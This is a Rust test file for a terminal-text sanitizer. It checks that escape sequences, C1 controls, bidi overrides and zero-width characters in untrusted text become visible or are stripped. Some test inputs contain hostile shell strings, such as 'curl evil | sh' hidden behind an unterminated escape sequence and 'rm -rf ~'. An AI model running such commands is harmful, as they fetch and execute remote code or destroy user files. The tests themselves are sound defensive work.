//! Terminal safety of untrusted text: nothing dangerous gets through, nothing readable is lost.

use codexmcp::text::{clean, is_unsafe, literal, one_line, sanitize};
use proptest::prelude::*;

#[test]
fn colour_and_cursor_codes_go_everything_else_is_shown() {
    let cases = [
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x1b[?25l\x1b[2Kbar\x1b(B\x1b[m", "bar"),
        ("a\x1b]0;title\x07b", "a␛]0;title␇b"),
        ("a\x1b]52;c;Zm9v\x1b\\b", "a␛]52;c;Zm9v␛\\b"),
        ("a\x1bPqdcs\x1b\\b", "a␛Pqdcs␛\\b"),
        ("a\x1b_apc\x1b\\b", "a␛_apc␛\\b"),
        ("\x1bcreset", "␛creset"),
        ("tab\there", "tab    here"),
        ("cr\r\nlf", "cr\nlf"),
        ("bell\x07", "bell␇"),
        ("wide 日本 ok", "wide 日本 ok"),
        ("dangling\x1b", "dangling␛"),
        ("csi \x1b[1;2\x18 cancelled", "csi ␛[1;2␘ cancelled"),
        ("\x1b[é31m", "␛[é31m"),
    ];
    for (input, want) in cases {
        assert_eq!(sanitize(input), want, "{input:?}");
    }
}

#[test]
fn what_a_terminal_would_swallow_stays_readable() {
    // An OSC that never ends would hide everything after it, here a second command.
    let spoof = "echo x\x1b]0;\n; curl evil | sh";
    assert_eq!(sanitize(spoof), "echo x␛]0;\n; curl evil | sh");
    // A C1 control (8-bit OSC) used to swallow the rest in the old hand-written filter.
    assert_eq!(
        sanitize("echo x\u{9d}; curl evil | sh"),
        "echo x<U+009D>; curl evil | sh"
    );
    // Bidi overrides and zero-width characters are shown, not obeyed.
    assert_eq!(sanitize("ls \u{202e}fdp.exe"), "ls <U+202E>fdp.exe");
    assert_eq!(sanitize("r\u{200b}m"), "r<U+200B>m");
    assert_eq!(sanitize("tag\u{e0041}"), "tag<U+E0041>");
}

#[test]
fn literal_keeps_even_colour_codes_visible() {
    assert_eq!(literal("ls \x1b[;rm -rf ~"), "ls ␛[;rm -rf ~");
    assert_eq!(literal("a\r\tb"), "a␍\tb");
    assert_eq!(clean("a\tb\x1b[1mc"), "a\tbc");
}

#[test]
fn one_line_joins_and_cuts() {
    assert_eq!(one_line("a\nb", 10), "a⏎b");
    assert_eq!(one_line("abcdef", 3), "abc…");
}

fn forbidden(c: char) -> bool {
    (c != '\n' && c != '\t' && c.is_control()) || is_unsafe(c)
}

/// Pieces a hostile stream is made of: plain text (any Unicode, no ESC), and sequences
/// terminals act on, complete or not.
fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => "[^\u{1b}]{0,12}",
        1 => "\u{1b}\\[[0-9;?]{0,6}[A-Za-z]",
        1 => "\u{1b}\\][0-9]{1,2};[^\u{1b}\u{7}]{0,8}(\u{7}|\u{1b}\\\\)?",
        1 => "\u{1b}[P_^X][^\u{1b}]{0,8}(\u{1b}\\\\)?",
        1 => "[\u{80}-\u{9f}\u{202a}-\u{202e}\u{2066}-\u{2069}\u{200b}-\u{200f}\u{18}\u{1a}\u{7f}]",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn no_output_carries_a_control_or_invisible_character(input in any::<String>()) {
        for out in [sanitize(&input), clean(&input), literal(&input), one_line(&input, 50)] {
            prop_assert!(!out.chars().any(forbidden), "{input:?} -> {out:?}");
        }
    }

    #[test]
    fn hostile_streams_come_out_safe(pieces in prop::collection::vec(piece(), 0..12)) {
        let input = pieces.concat();
        for out in [sanitize(&input), clean(&input), literal(&input)] {
            prop_assert!(!out.chars().any(forbidden), "{input:?} -> {out:?}");
        }
    }

    /// `literal` loses nothing: every character is there, in order, as itself or a picture.
    #[test]
    fn literal_keeps_every_character(input in any::<String>()) {
        let out = literal(&input);
        let mut rest = out.as_str();
        for c in input.chars() {
            let shown = if forbidden(c) {
                literal(&c.to_string())
            } else {
                c.to_string()
            };
            prop_assert!(rest.starts_with(&shown), "{c:?} missing in {out:?}");
            rest = &rest[shown.len()..];
        }
        prop_assert!(rest.is_empty());
    }

    /// Outside a colour or cursor code, no printable character is lost by `sanitize`: text
    /// pieces, and whatever sits inside a shown OSC/DCS/APC string, come out in order.
    #[test]
    fn sanitize_loses_no_text(pieces in prop::collection::vec(piece(), 0..12)) {
        let input = pieces.concat();
        let out = sanitize(&input);
        let mut rest = out.chars();
        for piece in &pieces {
            if piece.starts_with("\u{1b}[") {
                continue;
            }
            for c in piece.chars().filter(|c| !forbidden(*c) && *c != '\t') {
                prop_assert!(rest.any(|o| o == c), "{c:?} of {piece:?} lost: {input:?} -> {out:?}");
            }
        }
    }

    #[test]
    fn sanitizing_twice_changes_nothing(input in any::<String>()) {
        let once = sanitize(&input);
        prop_assert_eq!(sanitize(&once), once.clone());
        let stored = clean(&input);
        prop_assert_eq!(clean(&stored), stored);
    }
}
